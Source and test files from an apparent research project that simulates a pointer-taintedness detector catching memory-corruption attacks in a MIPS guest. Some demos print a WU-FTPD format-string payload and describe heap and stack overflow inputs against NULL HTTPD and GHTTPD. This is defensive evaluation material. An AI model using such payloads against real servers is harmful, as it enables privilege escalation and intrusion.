buf: .space 16
    .text
_start:
    li $v0, 40
    syscall
    move $a0, $v0
    li $v0, 43        # accept
    syscall
    move $s0, $v0
    move $a0, $s0
    la $a1, buf
    li $a2, 16
    li $v0, 44        # recv
    syscall
    move $a2, $v0
    move $a0, $s0
    la $a1, buf
    li $v0, 45        # send (echo)
    syscall
    li $v0, 1
    li $a0, 0
    syscall
  )");
  RunReport r = m.run();
  ASSERT_EQ(r.net_transcripts.size(), 1u);
  EXPECT_EQ(r.net_transcripts[0], "ping");
}

TEST(MachineApi, AlertLineWithoutAlert) {
  Machine m;
  m.load_source(kCountdown);
  RunReport r = m.run();
  EXPECT_EQ(r.alert_line(), "(no alert)");
  EXPECT_TRUE(r.exited_cleanly());
}

}  // namespace
}  // namespace ptaint::core
