// Tests for the static pointer-taintedness analyzer (src/analysis/):
// lattice algebra, CFG recovery, Table 1 transfer rules under policy
// gates, the golden paper alert sites cross-validated against the dynamic
// detector, and verdict-identity of static check-elision.
#include <gtest/gtest.h>

#include <algorithm>
#include <string>

#include "analysis/cfg.hpp"
#include "analysis/lattice.hpp"
#include "analysis/taint_analyzer.hpp"
#include "campaign/campaigns.hpp"
#include "core/attack.hpp"
#include "core/machine.hpp"
#include "guest/apps/apps.hpp"
#include "guest/runtime.hpp"

namespace ptaint::analysis {
namespace {

using isa::Op;
namespace layout = isa::layout;

// ---- lattice ---------------------------------------------------------------

TEST(Lattice, JoinIsMax) {
  EXPECT_EQ(join(Taint::kUntainted, Taint::kUntainted), Taint::kUntainted);
  EXPECT_EQ(join(Taint::kUntainted, Taint::kMaybeTainted),
            Taint::kMaybeTainted);
  EXPECT_EQ(join(Taint::kMaybeTainted, Taint::kTop), Taint::kTop);
  EXPECT_EQ(join(Taint::kTop, Taint::kUntainted), Taint::kTop);
}

TEST(Lattice, MayBeTaintedOnlyExcludesUntainted) {
  EXPECT_FALSE(may_be_tainted(Taint::kUntainted));
  EXPECT_TRUE(may_be_tainted(Taint::kMaybeTainted));
  EXPECT_TRUE(may_be_tainted(Taint::kTop));
}

TEST(Lattice, RegStateZeroIsPinnedUntainted) {
  RegState s;
  s.set(isa::kZero, Taint::kTop);
  EXPECT_EQ(s.get(isa::kZero), Taint::kUntainted);
  s.set(isa::kT0, Taint::kMaybeTainted);
  EXPECT_EQ(s.get(isa::kT0), Taint::kMaybeTainted);
}

TEST(Lattice, JoinWithReportsChange) {
  RegState a, b;
  b.set(isa::kA0, Taint::kMaybeTainted);
  EXPECT_TRUE(a.join_with(b));
  EXPECT_EQ(a.get(isa::kA0), Taint::kMaybeTainted);
  EXPECT_FALSE(a.join_with(b));  // already above b
}

// ---- CFG recovery ----------------------------------------------------------

asmgen::Program small_program() {
  return asmgen::assemble(R"(
    .text
    _start:
      jal work
      li $v0, 1
      li $a0, 0
      syscall
    work:
      beq $a0, $zero, skip
      addiu $a0, $a0, -1
    skip:
      jr $ra
  )");
}

TEST(CfgRecovery, BlocksFunctionsAndEdges) {
  const asmgen::Program program = small_program();
  const Cfg cfg(program);
  // Two functions: _start (entry) and the jal target `work`.
  ASSERT_EQ(cfg.functions().size(), 2u);
  EXPECT_EQ(cfg.functions()[0].entry, layout::kTextBase);
  EXPECT_EQ(cfg.functions()[1].name, "work");

  // jal creates a call edge and registers the return site.
  const int b0 = cfg.block_at(layout::kTextBase);
  ASSERT_GE(b0, 0);
  ASSERT_EQ(cfg.blocks()[static_cast<size_t>(b0)].call_succs.size(), 1u);
  ASSERT_EQ(cfg.functions()[1].return_sites.size(), 1u);
  EXPECT_EQ(cfg.functions()[1].return_sites[0], layout::kTextBase + 4);
}

TEST(CfgRecovery, JrRaResolvesToReturnSites) {
  const asmgen::Program program = small_program();
  const Cfg cfg(program);
  // The `jr $ra` block must flow back to the instruction after the jal.
  const uint32_t jr_pc = cfg.functions()[1].end - 4;
  const int jr_block = cfg.block_at(jr_pc);
  ASSERT_GE(jr_block, 0);
  const BasicBlock& bb = cfg.blocks()[static_cast<size_t>(jr_block)];
  EXPECT_TRUE(bb.returns);
  const int ret_block = cfg.block_at(layout::kTextBase + 4);
  EXPECT_NE(std::find(bb.succs.begin(), bb.succs.end(), ret_block),
            bb.succs.end());
}

TEST(CfgRecovery, EverythingReachableInStraightLineProgram) {
  const asmgen::Program program = small_program();
  const Cfg cfg(program);
  const std::vector<bool> reach = cfg.reachable_blocks();
  for (size_t b = 0; b < cfg.blocks().size(); ++b) {
    EXPECT_TRUE(reach[b]) << "block " << b << " at "
                          << std::hex << cfg.blocks()[b].begin;
  }
}

// ---- transfer rules --------------------------------------------------------

/// Analyzes a snippet that loads a (tainted-summary) word into $t0, applies
/// `body`, then dereferences $t1.  Returns the abstract taint at the load
/// site that dereferences $t1.
Taint taint_after(const std::string& body, const cpu::TaintPolicy& policy) {
  const asmgen::Program p = asmgen::assemble(
      ".data\ncell: .word 0\n.text\n_start:\n  lw $t0, cell\n" + body +
      "\n  lw $v0, 0($t1)\n  li $v0, 1\n  li $a0, 0\n  syscall\n");
  const TaintAnalysis ta = analyze_taint(p, policy);
  // The dereference of $t1 is the second load in the text segment.
  for (const DerefSite& s : ta.sites) {
    if (s.inst.op == Op::kLw && s.addr_reg == isa::kT1) return s.may_taint;
  }
  ADD_FAILURE() << "no $t1 dereference site found";
  return Taint::kTop;
}

TEST(TransferRules, LoadsProduceMaybeTainted) {
  EXPECT_EQ(taint_after("  move $t1, $t0", {}), Taint::kMaybeTainted);
}

TEST(TransferRules, LuiAndConstantsAreUntainted) {
  EXPECT_EQ(taint_after("  lui $t1, 0x1000", {}), Taint::kUntainted);
  EXPECT_EQ(taint_after("  li $t1, 64", {}), Taint::kUntainted);
}

TEST(TransferRules, CompareUntaintsItsOperands) {
  // slt validates $t0 (Table 1 compare rule): afterwards a dereference
  // through it is statically clean.
  EXPECT_EQ(taint_after("  slt $t2, $t0, $t3\n  move $t1, $t0", {}),
            Taint::kUntainted);
  cpu::TaintPolicy ablated;
  ablated.compare_untaints = false;
  EXPECT_EQ(taint_after("  slt $t2, $t0, $t3\n  move $t1, $t0", ablated),
            Taint::kMaybeTainted);
}

TEST(TransferRules, SltiUntaintsOnlyRs) {
  EXPECT_EQ(taint_after("  slti $t2, $t0, 10\n  move $t1, $t0", {}),
            Taint::kUntainted);
}

TEST(TransferRules, AndWithZeroUntaints) {
  EXPECT_EQ(taint_after("  and $t1, $t0, $zero", {}), Taint::kUntainted);
  cpu::TaintPolicy ablated;
  ablated.and_zero_untaints = false;
  EXPECT_EQ(taint_after("  and $t1, $t0, $zero", ablated),
            Taint::kMaybeTainted);
}

TEST(TransferRules, XorSelfUntaints) {
  EXPECT_EQ(taint_after("  xor $t1, $t0, $t0", {}), Taint::kUntainted);
  cpu::TaintPolicy ablated;
  ablated.xor_self_untaints = false;
  EXPECT_EQ(taint_after("  xor $t1, $t0, $t0", ablated),
            Taint::kMaybeTainted);
}

TEST(TransferRules, AluMergesOperandTaint) {
  EXPECT_EQ(taint_after("  addu $t1, $t0, $t3", {}), Taint::kMaybeTainted);
  EXPECT_EQ(taint_after("  addu $t1, $t3, $t4", {}), Taint::kUntainted);
}

TEST(TransferRules, VariableShiftJoinsShiftAmountTaint) {
  // $t3 starts untainted but the shift amount $t0 may be tainted.
  EXPECT_EQ(taint_after("  sllv $t1, $t3, $t0", {}), Taint::kMaybeTainted);
}

TEST(TransferRules, SyscallResultIsUntainted) {
  EXPECT_EQ(taint_after("  li $v0, 9\n  syscall\n  move $t1, $v0", {}),
            Taint::kUntainted);
}

// ---- golden paper sites ----------------------------------------------------

/// Runs the scenario's dynamic attack, then analyzes the same program and
/// checks the dynamic alert PC is a statically-predicted site.
void expect_statically_predicted(core::AttackId id, bool expect_jump) {
  auto scenario = core::make_scenario(id);
  core::ScenarioResult r =
      scenario->run_attack(cpu::DetectionMode::kPointerTaint);
  ASSERT_EQ(r.outcome, core::Outcome::kDetected) << r.detail;
  ASSERT_TRUE(r.report.alert.has_value());
  const uint32_t alert_pc = r.report.alert->pc;

  const asmgen::Program program = scenario->prepare_attack({})->program();
  const TaintAnalysis ta = analyze_taint(program, {});
  EXPECT_TRUE(ta.predicts_alert(alert_pc))
      << "dynamic alert at " << std::hex << alert_pc
      << " not statically predicted";
  const DerefSite* site = ta.site_at(alert_pc);
  ASSERT_NE(site, nullptr);
  EXPECT_EQ(site->is_jump, expect_jump);
  EXPECT_TRUE(site->reachable);
}

TEST(GoldenPaperSites, Exp1StackJrRaIsFlagged) {
  expect_statically_predicted(core::AttackId::kExp1Stack, /*jump=*/true);
}

TEST(GoldenPaperSites, Exp2HeapFreeStoreIsFlagged) {
  expect_statically_predicted(core::AttackId::kExp2Heap, /*jump=*/false);
}

TEST(GoldenPaperSites, Exp3FormatVfprintfStoreIsFlagged) {
  expect_statically_predicted(core::AttackId::kExp3Format, /*jump=*/false);
}

TEST(GoldenPaperSites, FalsenegMatrixHasEmptyStaticDynamicDiff) {
  // The campaign-level cross-check: run the Table 4 matrix and require
  // every dynamic pointer-taint alert to be statically predicted.
  const std::vector<campaign::JobResult> results =
      campaign::run_serial_reference("falseneg");
  const campaign::StaticCheckReport sc =
      campaign::static_check("falseneg", results);
  EXPECT_TRUE(sc.missed.empty())
      << (sc.missed.empty() ? std::string() : sc.missed.front());
  EXPECT_GE(sc.alerts_checked, 1u);  // the %n WRITE contrast case
}

// ---- check elision ---------------------------------------------------------

TEST(CheckElision, BitmapCoversOnlyProvenCleanSites) {
  auto scenario = core::make_scenario(core::AttackId::kExp1Stack);
  const asmgen::Program program = scenario->prepare_attack({})->program();
  const Cfg cfg(program);
  const TaintAnalysis ta = analyze_taint(cfg, {});
  ASSERT_EQ(ta.elision.size(), cfg.instructions().size());

  size_t elided = 0;
  for (const DerefSite& s : ta.sites) {
    const uint8_t bit = ta.elision[cfg.index_of(s.pc)];
    if (may_be_tainted(s.may_taint) || !s.reachable) {
      EXPECT_EQ(bit, 0) << std::hex << s.pc;
    }
    elided += bit;
  }
  EXPECT_EQ(elided, ta.proven_clean);
  EXPECT_GT(ta.proven_clean, 0u);    // most sites are provably clean
  EXPECT_GT(ta.possible_sites, 0u);  // the attack sites are not
  // Non-dereference instructions never carry an elision bit.
  for (size_t i = 0; i < ta.elision.size(); ++i) {
    if (!ta.elision[i]) continue;
    const uint32_t pc = cfg.text_begin() + 4 * static_cast<uint32_t>(i);
    EXPECT_NE(ta.site_at(pc), nullptr);
  }
}

TEST(CheckElision, AttackVerdictIdenticalWithAndWithoutElision) {
  for (const bool elide : {false, true}) {
    core::MachineConfig cfg;
    cfg.static_elision = elide;
    core::Machine m(cfg);
    m.load_sources(guest::link_with_runtime(guest::apps::exp1_stack()));
    m.os().set_stdin(std::string(24, 'a'));
    const core::RunReport rep = m.run();
    ASSERT_TRUE(rep.detected()) << "elide=" << elide;
    EXPECT_EQ(rep.alert->disasm, "jr $31");
    EXPECT_EQ(rep.alert->reg_value, 0x61616161u);
  }
}

TEST(CheckElision, BenignRunIdenticalWithAndWithoutElision) {
  std::string out[2];
  for (const bool elide : {false, true}) {
    core::MachineConfig cfg;
    cfg.static_elision = elide;
    core::Machine m(cfg);
    m.load_sources(guest::link_with_runtime(guest::apps::exp1_stack()));
    m.os().set_stdin("hi");
    const core::RunReport rep = m.run();
    EXPECT_EQ(rep.stop, cpu::StopReason::kExit) << "elide=" << elide;
    EXPECT_EQ(rep.exit_status, 0);
    out[elide ? 1 : 0] = rep.stdout_text;
  }
  EXPECT_EQ(out[0], out[1]);
}

TEST(CheckElision, EnableReportsProvenCleanCountAndSurvivesRestore) {
  core::MachineConfig cfg;
  core::Machine m(cfg);
  m.load_sources(guest::link_with_runtime(guest::apps::exp1_stack()));
  const size_t clean = m.enable_static_elision();
  EXPECT_GT(clean, 0u);

  // restore() drops the decode cache; the elision map must be re-applied.
  const core::MachineSnapshot snap = m.snapshot();
  core::MachineConfig cfg2;
  cfg2.static_elision = true;
  core::Machine fork(cfg2);
  fork.restore(snap);
  fork.os().set_stdin(std::string(24, 'a'));
  const core::RunReport rep = fork.run();
  ASSERT_TRUE(rep.detected());
  EXPECT_EQ(rep.alert->reg_value, 0x61616161u);
}

}  // namespace
}  // namespace ptaint::analysis
