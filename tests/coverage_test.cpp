// The paper's headline claim as a test: the coverage matrix must show
// pointer-taintedness detecting every expected-detectable attack, the
// control-data-only baseline catching only control-data attacks, nothing
// detected unprotected, and zero false positives on the benign twins.
#include <gtest/gtest.h>

#include "core/cert_data.hpp"
#include "core/coverage.hpp"

namespace ptaint::core {
namespace {

using cpu::DetectionMode;

class CoverageMatrixTest : public ::testing::Test {
 protected:
  static const CoverageMatrix& matrix() {
    static const CoverageMatrix m = run_coverage_matrix();
    return m;
  }
};

TEST_F(CoverageMatrixTest, PointerTaintDetectsEverythingDetectable) {
  EXPECT_EQ(matrix().detected_count(DetectionMode::kPointerTaint),
            matrix().expected_detectable());
}

TEST_F(CoverageMatrixTest, BaselineDetectsOnlyControlDataAttacks) {
  for (const auto& row : matrix().rows) {
    const auto& cell = row.cell(DetectionMode::kControlDataOnly);
    if (row.control_data) {
      EXPECT_EQ(cell.outcome, Outcome::kDetected) << row.name;
    } else {
      EXPECT_NE(cell.outcome, Outcome::kDetected) << row.name;
    }
  }
}

TEST_F(CoverageMatrixTest, UnprotectedDetectsNothing) {
  EXPECT_EQ(matrix().detected_count(DetectionMode::kOff), 0);
}

TEST_F(CoverageMatrixTest, UnprotectedAttacksActuallyLand) {
  for (const auto& row : matrix().rows) {
    EXPECT_EQ(row.cell(DetectionMode::kOff).outcome, Outcome::kCompromised)
        << row.name;
  }
}

TEST_F(CoverageMatrixTest, NoFalsePositives) {
  EXPECT_EQ(matrix().false_positives(), 0);
  for (const auto& row : matrix().rows) {
    EXPECT_EQ(row.benign_outcome, Outcome::kBenign) << row.name;
  }
}

TEST_F(CoverageMatrixTest, FalseNegativesAreTheTable4TrioPlusLeakTrio) {
  // Three Table 4 false negatives plus the three address-leak scenarios,
  // whose compare-validated overwrites evade the data-taint direction by
  // design (they need TaintPolicy::leak_detection, exercised in
  // attack_test's LeakScenarios suite, not a plain detection mode).
  int misses = 0;
  for (const auto& row : matrix().rows) {
    if (!row.expected_detected) {
      ++misses;
      EXPECT_NE(row.cell(DetectionMode::kPointerTaint).outcome,
                Outcome::kDetected)
          << row.name;
    }
  }
  EXPECT_EQ(misses, 6);
}

TEST_F(CoverageMatrixTest, TableRendersAllRows) {
  const std::string table = matrix().to_table();
  for (const auto& row : matrix().rows) {
    EXPECT_NE(table.find(row.name), std::string::npos);
  }
  EXPECT_NE(table.find("pointer-taintedness 9/9"), std::string::npos);
}

TEST(CertData, TotalsMatchThePaper) {
  EXPECT_EQ(cert_total_advisories(), 107);
  EXPECT_NEAR(cert_memory_corruption_share(), 0.67, 0.005);
}

TEST(CertData, CorpusCoversTheMemoryCorruptionTaxonomy) {
  auto by_category = corpus_by_category();
  int total = 0;
  bool has_bo = false, has_fmt = false, has_heap = false, has_int = false;
  bool has_glob = false, has_leak = false;
  for (const auto& [name, count] : by_category) {
    total += count;
    has_bo |= name == "buffer overflow";
    has_fmt |= name == "format string";
    has_heap |= name == "heap corruption";
    has_int |= name == "integer overflow";
    has_glob |= name == "globbing";
    has_leak |= name == "address leak";
  }
  EXPECT_TRUE(has_bo && has_fmt && has_heap && has_int && has_glob);
  EXPECT_TRUE(has_leak);
  EXPECT_EQ(total, 15);
}

}  // namespace
}  // namespace ptaint::core
