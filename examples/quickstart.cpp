// Quickstart: assemble a tiny guest program, feed it tainted input, and
// watch the pointer-taintedness detector stop the dereference.
//
//   $ ./examples/quickstart
//
// The program reads 4 bytes from stdin into `buf`, loads them into a
// register and uses the register as an address.  Because the bytes arrived
// through SYS_READ they are tainted, so the load trips the detector.
#include <cstdio>

#include "core/machine.hpp"

int main() {
  ptaint::core::Machine machine;

  machine.load_source(R"(
      .data
  buf:  .space 16
      .text
  _start:
      li $v0, 3            # SYS_READ(fd=0, buf, 4)
      li $a0, 0
      la $a1, buf
      li $a2, 4
      syscall

      lw $t0, buf          # $t0 = attacker-controlled word (tainted)
      lw $t1, 0($t0)       # dereference it -> security exception

      li $v0, 1            # SYS_EXIT(0)  (never reached)
      li $a0, 0
      syscall
  )");
  machine.os().set_stdin("ABCD");

  ptaint::core::RunReport report = machine.run();

  std::printf("stop reason: %s\n",
              report.detected() ? "security alert" : "no alert");
  if (report.alert) {
    std::printf("alert:       %s\n", report.alert_line().c_str());
    std::printf("             register value 0x%x is the input \"ABCD\"\n",
                report.alert->reg_value);
  }
  std::printf("instructions executed: %llu, tainted bytes in memory: %llu\n",
              static_cast<unsigned long long>(report.cpu_stats.instructions),
              static_cast<unsigned long long>(report.tainted_memory_bytes));
  return report.detected() ? 0 : 1;
}
