// Profile demo: runs the BZIP2 SPEC surrogate under the full taint policy
// and prints the per-function instruction profile — showing the whole
// guest stack (app kernel, libc, syscall wrappers) executing on the
// simulated architecture with taint tracking on.
#include <cstdio>

#include "core/spec_workloads.hpp"
#include "guest/runtime.hpp"

using namespace ptaint;
using namespace ptaint::core;

int main(int argc, char** argv) {
  const int scale = argc > 1 ? std::atoi(argv[1]) : 1;
  auto workload = make_spec_workloads(scale).at(0);  // BZIP2

  Machine m;
  m.load_sources(guest::link_with_runtime(workload.app));
  m.enable_profile();
  m.os().vfs().install("/input", workload.input);
  RunReport r = m.run();

  std::printf("workload: %s (scale %d)\n", workload.name.c_str(), scale);
  std::printf("result:   %s", r.stdout_text.c_str());
  std::printf("instructions: %llu, tainted loads: %llu, alerts: %s\n\n",
              static_cast<unsigned long long>(r.cpu_stats.instructions),
              static_cast<unsigned long long>(r.cpu_stats.tainted_loads),
              r.detected() ? "YES (unexpected)" : "none");
  std::printf("%s", m.profiler()->format(12).c_str());
  return r.exited_cleanly() ? 0 : 1;
}
