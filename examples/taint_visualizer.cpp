// Taint visualizer: runs the exp2 heap overflow step by step and renders
// the taintedness bits of the heap region as an ASCII map, making the
// paper's Figure 2 "grey area" visible — the attacker bytes creeping over
// the next free chunk's header and links.
//
//   '.' untainted byte   '#' tainted byte   '|' chunk boundary
#include <cstdio>
#include <string>

#include "core/machine.hpp"
#include "guest/apps/apps.hpp"
#include "guest/runtime.hpp"

using namespace ptaint;
using namespace ptaint::core;

namespace {

void dump_heap(Machine& m, uint32_t base, uint32_t len, const char* when) {
  std::printf("\nheap taint map %s (base 0x%x):\n", when, base);
  for (uint32_t row = 0; row < len; row += 32) {
    std::printf("  +%3u  ", row);
    for (uint32_t i = row; i < row + 32 && i < len; ++i) {
      const bool chunk_edge = i % 16 == 0 && i != 0;
      if (chunk_edge) std::printf("|");
      std::printf("%c", m.memory().load_byte(base + i).tainted() ? '#' : '.');
    }
    std::printf("\n");
  }
}

}  // namespace

int main() {
  Machine m;
  m.load_sources(guest::link_with_runtime(guest::apps::exp2_heap()));
  // The paper-style overflow: filler, crafted even size, then the links.
  m.os().set_stdin(std::string(12, 'a') + "bbbb" + "cccc");

  // Drive execution up to the free() call, watching the heap.
  const uint32_t heap_base = (m.program().data_end + 7) & ~7u;

  // Run until malloc+scanf finished: step until the first tainted heap
  // byte appears, then until free is entered.
  while (m.cpu().stop_reason() == cpu::StopReason::kRunning &&
         m.memory().tainted_byte_count() == 0) {
    m.run_for(1);
  }
  dump_heap(m, heap_base, 96, "after the first tainted input byte landed");

  const uint32_t free_entry = m.program().symbols.at("free");
  while (m.cpu().stop_reason() == cpu::StopReason::kRunning &&
         m.cpu().pc() != free_entry) {
    m.run_for(1);
  }
  dump_heap(m, heap_base, 96,
            "entering free(): links of the next chunk are tainted");

  auto report = m.run();
  std::printf("\nfinal: %s\n", report.detected()
                                   ? report.alert_line().c_str()
                                   : "no alert (unexpected)");
  std::printf("tainted bytes in memory at stop: %llu\n",
              static_cast<unsigned long long>(report.tainted_memory_bytes));
  return report.detected() ? 0 : 1;
}
