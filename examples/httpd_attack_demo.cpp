// HTTP server attacks demo: NULL HTTPD (heap) and GHTTPD (stack), the two
// non-control-data web-server compromises from the paper's Section 5.1.2.
#include <cstdio>

#include "core/attack.hpp"

using namespace ptaint;
using namespace ptaint::core;

namespace {

void run_one(AttackId id, const char* title, const char* story) {
  std::printf("\n===== %s =====\n%s\n\n", title, story);
  auto scenario = make_scenario(id);

  auto caught = scenario->run_attack(cpu::DetectionMode::kPointerTaint);
  std::printf("pointer-taintedness: %-12s %s\n", to_string(caught.outcome),
              caught.detail.c_str());

  auto baseline = scenario->run_attack(cpu::DetectionMode::kControlDataOnly);
  std::printf("control-data-only:   %-12s %s\n", to_string(baseline.outcome),
              baseline.detail.c_str());

  auto off = scenario->run_attack(cpu::DetectionMode::kOff);
  std::printf("unprotected:         %-12s %s\n", to_string(off.outcome),
              off.detail.c_str());

  auto benign = scenario->run_benign();
  std::printf("benign twin:         %-12s (no false positive)\n",
              to_string(benign.outcome));
}

}  // namespace

int main() {
  run_one(AttackId::kNullHttpdHeap, "NULL HTTPD: negative Content-Length",
          "POST with Content-Length -800 makes the server allocate 224\n"
          "bytes and then receive 1024: the body overflows the next free\n"
          "chunk's links, and free()'s unlink becomes the attacker's write\n"
          "primitive, redirecting the CGI root at \"/bin\".");
  run_one(AttackId::kGhttpdStack, "GHTTPD: Log() stack overflow",
          "The request is strcpy'd into a 200-byte log buffer after the\n"
          "URL pointer was parsed and policy-checked; the overflow rewrites\n"
          "that pointer at an unchecked \"/cgi-bin/../../../../bin/sh\".");
  return 0;
}
