// WU-FTPD SITE EXEC demo (the paper's Table 2 scenario, end to end).
//
// Runs the mini FTP server on the simulated architecture three times:
//   1. a benign session (login + SITE EXEC with harmless text);
//   2. the format-string attack with the pointer-taintedness detector ON;
//   3. the same attack with detection OFF, showing the privilege state
//      being corrupted.
#include <cstdio>

#include "core/attack.hpp"

using namespace ptaint;
using namespace ptaint::core;

namespace {

void banner(const char* title) { std::printf("\n===== %s =====\n", title); }

}  // namespace

int main() {
  auto scenario = make_scenario(AttackId::kWuFtpdFormat);

  banner("benign session, detector ON");
  auto benign = scenario->run_benign();
  std::printf("outcome: %s\n", to_string(benign.outcome));
  if (!benign.report.net_transcripts.empty()) {
    std::printf("server replies:\n%s",
                benign.report.net_transcripts[0].c_str());
  }

  banner("SITE EXEC format-string attack, detector ON");
  auto protected_run = scenario->run_attack(cpu::DetectionMode::kPointerTaint);
  std::printf("outcome: %s\n", to_string(protected_run.outcome));
  std::printf("client sends: site exec \\x20\\xbc\\x02\\x10%%x%%x%%x%%x%%x%%x%%n\n");
  if (protected_run.report.alert) {
    std::printf("alert:        %s\n",
                protected_run.report.alert_line().c_str());
    std::printf("the tainted pointer IS the uid word's address — the %%n\n"
                "write was stopped before any privilege state changed.\n");
  }

  banner("same attack, detector OFF");
  auto exposed = scenario->run_attack(cpu::DetectionMode::kOff);
  std::printf("outcome: %s\n%s\n", to_string(exposed.outcome),
              exposed.detail.c_str());
  std::printf("(a control-flow-integrity baseline also misses this: the\n"
              " attack never touches a return address or function pointer)\n");
  return 0;
}
