#include "serve/server.hpp"

#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#include <cerrno>
#include <cstdio>
#include <cstring>
#include <sstream>

#include "analysis/summary_cache.hpp"
#include "campaign/campaigns.hpp"
#include "campaign/report.hpp"
#include "serve/json.hpp"

namespace ptaint::serve {

using campaign::json_escape;

namespace {

/// Writes one protocol line (terminator appended).  MSG_NOSIGNAL: a peer
/// that hung up must surface as an error here, not as SIGPIPE.
bool write_line(int fd, const std::string& line) {
  std::string out = line;
  out += '\n';
  size_t off = 0;
  while (off < out.size()) {
    const ssize_t n =
        ::send(fd, out.data() + off, out.size() - off, MSG_NOSIGNAL);
    if (n < 0) {
      if (errno == EINTR) continue;
      return false;
    }
    off += static_cast<size_t>(n);
  }
  return true;
}

/// Reads one newline-terminated line into `line`; false on EOF/error.
bool read_line(int fd, std::string& buffer, std::string& line) {
  for (;;) {
    const size_t nl = buffer.find('\n');
    if (nl != std::string::npos) {
      line = buffer.substr(0, nl);
      buffer.erase(0, nl + 1);
      return true;
    }
    char chunk[4096];
    const ssize_t n = ::recv(fd, chunk, sizeof chunk, 0);
    if (n < 0) {
      if (errno == EINTR) continue;
      return false;
    }
    if (n == 0) return false;
    buffer.append(chunk, static_cast<size_t>(n));
  }
}

std::string error_line(const std::string& message) {
  return "{\"event\": \"error\", \"message\": \"" + json_escape(message) +
         "\"}";
}

std::string verdict_line(uint64_t id, const std::string& row) {
  return "{\"event\": \"verdict\", \"id\": " + std::to_string(id) +
         ", \"result\": " + row + "}";
}

/// Config flags layered over the environment: either source attaches the
/// store, an explicit --snapshot-dir wins over PTAINT_SNAPSHOT_DIR.
campaign::StoreOptions resolve_store(const ServeDaemon::Config& config) {
  campaign::StoreOptions opts = campaign::StoreOptions::from_env();
  if (config.snapshot_store) opts.enabled = true;
  if (!config.snapshot_dir.empty()) {
    opts.enabled = true;
    opts.disk_dir = config.snapshot_dir;
  }
  return opts;
}

}  // namespace

ServeDaemon::ServeDaemon(Config config)
    : config_(std::move(config)), cache_(resolve_store(config_)) {}

ServeDaemon::~ServeDaemon() {
  if (running_.load()) stop();
  wait();
}

void ServeDaemon::start() {
  queue_ = std::make_unique<JobQueue>(
      JobQueue::Config{config_.journal_path, config_.tenant_quota});
  if (config_.workers < 1) config_.workers = 1;

  listen_fd_ = ::socket(AF_UNIX, SOCK_STREAM, 0);
  if (listen_fd_ < 0) {
    throw std::runtime_error(std::string("socket: ") + std::strerror(errno));
  }
  sockaddr_un addr{};
  addr.sun_family = AF_UNIX;
  if (config_.socket_path.size() >= sizeof addr.sun_path) {
    throw std::runtime_error("socket path too long: " + config_.socket_path);
  }
  std::strncpy(addr.sun_path, config_.socket_path.c_str(),
               sizeof addr.sun_path - 1);
  ::unlink(config_.socket_path.c_str());
  if (::bind(listen_fd_, reinterpret_cast<sockaddr*>(&addr), sizeof addr) <
      0) {
    throw std::runtime_error("bind " + config_.socket_path + ": " +
                             std::strerror(errno));
  }
  if (::listen(listen_fd_, 128) < 0) {
    throw std::runtime_error(std::string("listen: ") + std::strerror(errno));
  }

  running_.store(true);
  active_workers_.store(config_.workers);
  for (int i = 0; i < config_.workers; ++i) {
    workers_.emplace_back([this]() { worker_main(); });
  }
  judge_ = std::thread([this]() { judge_main(); });
  listener_ = std::thread([this]() { listener_main(); });
}

void ServeDaemon::stop() {
  if (!running_.exchange(false)) {
    if (queue_) queue_->stop();
    return;
  }
  queue_->stop();
  // Unblocks accept() on Linux (returns EINVAL); the fd itself is closed
  // in wait() after the listener thread is joined.
  ::shutdown(listen_fd_, SHUT_RDWR);
  {
    std::lock_guard<std::mutex> lock(conns_mutex_);
    for (auto& [serial, conn] : conns_) {
      if (conn.fd >= 0) ::shutdown(conn.fd, SHUT_RDWR);
    }
  }
  {
    std::lock_guard<std::mutex> lock(subs_mutex_);
    for (auto& [id, sink] : subs_) {
      std::lock_guard<std::mutex> sl(sink->mutex);
      sink->dead = true;
      sink->cv.notify_all();
    }
  }
  judge_cv_.notify_all();
}

void ServeDaemon::wait() {
  if (listener_.joinable()) listener_.join();
  for (auto& w : workers_) {
    if (w.joinable()) w.join();
  }
  workers_.clear();
  if (judge_.joinable()) judge_.join();
  // Handlers exit once their fd is shut down; entries stay until here so
  // fd reuse can never alias a live map key.
  for (;;) {
    std::map<uint64_t, Conn> conns;
    {
      std::lock_guard<std::mutex> lock(conns_mutex_);
      conns.swap(conns_);
    }
    if (conns.empty()) break;
    for (auto& [serial, conn] : conns) {
      if (conn.thread.joinable()) conn.thread.join();
    }
  }
  if (listen_fd_ >= 0) {
    ::close(listen_fd_);
    listen_fd_ = -1;
    ::unlink(config_.socket_path.c_str());
  }
  // Make every queued page/blob durable before the process exits, so a
  // restarted daemon's disk scan sees the full warm set.
  cache_.flush_disk();
}

ServeDaemon::Stats ServeDaemon::stats() const {
  std::lock_guard<std::mutex> lock(stats_mutex_);
  return stats_;
}

uint64_t ServeDaemon::replayed() const {
  return queue_ ? queue_->status().replayed : 0;
}

void ServeDaemon::listener_main() {
  uint64_t serial = 0;
  while (running_.load()) {
    const int fd = ::accept(listen_fd_, nullptr, nullptr);
    if (fd < 0) {
      if (errno == EINTR) continue;
      if (!running_.load()) return;
      continue;
    }
    std::lock_guard<std::mutex> lock(conns_mutex_);
    const uint64_t key = serial++;
    Conn& conn = conns_[key];
    conn.fd = fd;
    conn.thread = std::thread([this, fd, key]() {
      connection_main(fd);
      std::lock_guard<std::mutex> l(conns_mutex_);
      auto it = conns_.find(key);
      if (it != conns_.end()) it->second.fd = -1;  // closed; don't re-shutdown
      ::close(fd);
    });
  }
}

void ServeDaemon::connection_main(int fd) {
  std::string buffer, line;
  auto sink = std::make_shared<StreamSink>();
  std::vector<uint64_t> subscribed;

  auto drain_stream = [&]() -> bool {
    // Write subscribed events as the judge publishes them, until every
    // awaited id has reported (or the connection/daemon died).
    for (;;) {
      std::deque<std::string> lines;
      bool done = false;
      {
        std::unique_lock<std::mutex> sl(sink->mutex);
        sink->cv.wait(sl, [&]() {
          return !sink->lines.empty() || sink->awaiting == 0 || sink->dead;
        });
        lines.swap(sink->lines);
        done = (sink->awaiting == 0 && lines.empty()) || sink->dead;
      }
      for (const std::string& l : lines) {
        if (!write_line(fd, l)) return false;
        std::lock_guard<std::mutex> lock(stats_mutex_);
        ++stats_.events_streamed;
      }
      if (done) return true;
    }
  };

  while (read_line(fd, buffer, line)) {
    if (line.empty()) continue;
    JsonValue req;
    try {
      req = JsonValue::parse(line);
    } catch (const JsonError& e) {
      if (!write_line(fd, error_line(std::string("bad request: ") + e.what())))
        return;
      continue;
    }
    const std::string cmd = req.get_string("cmd");
    std::string reply;
    bool stream = false;
    try {
      if (cmd == "submit") {
        stream = req.get_bool("stream");
